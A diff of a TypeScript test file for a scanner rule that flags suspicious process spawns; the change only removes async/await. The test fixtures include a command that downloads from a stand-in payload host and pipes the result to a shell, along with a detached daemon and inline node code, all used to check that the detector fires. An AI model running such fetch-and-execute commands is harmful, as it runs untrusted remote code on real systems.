@@ -12,23 +12,20 @@ const proc = (argv: string[], extra: Record<string, unknown> = {}) => ({
 });
 
 describe('runtime/process-spawn', () => {
-  it('reports a downloader and a shell piping a download', async () => {
-    const findings = await runRuntimeRule(rule, [
+  it('reports a downloader and a shell piping a download', () => {
+    const findings = runRuntimeRule(rule, [
       proc(['/bin/sh', '-c', 'curl -s http://payload.example.invalid/x | sh']),
       proc(['curl', '-s', 'http://payload.example.invalid/x']),
     ]);
     assert.equal(findings.length, 2);
     assert.ok(findings.every(f => f.severity === 'high'));
   });
-  it('reports a daemon left running and inline node code', async () => {
-    const findings = await runRuntimeRule(rule, [
-      proc(['sleep', '1000'], { leftRunning: true, detached: true }),
-      proc(['node', '-e', 'x']),
-    ]);
+  it('reports a daemon left running and inline node code', () => {
+    const findings = runRuntimeRule(rule, [proc(['sleep', '1000'], { leftRunning: true, detached: true }), proc(['node', '-e', 'x'])]);
     assert.deepEqual(findings.map(f => f.severity).sort(), ['high', 'medium']);
   });
-  it('benign: npm running a build tool', async () => {
-    const findings = await runRuntimeRule(rule, [proc(['node', '/usr/bin/npm', 'run', 'build']), proc(['sh', '-c', 'node-gyp rebuild'])]);
+  it('benign: npm running a build tool', () => {
+    const findings = runRuntimeRule(rule, [proc(['node', '/usr/bin/npm', 'run', 'build']), proc(['sh', '-c', 'node-gyp rebuild'])]);
     assert.equal(findings.length, 0);
   });
 });
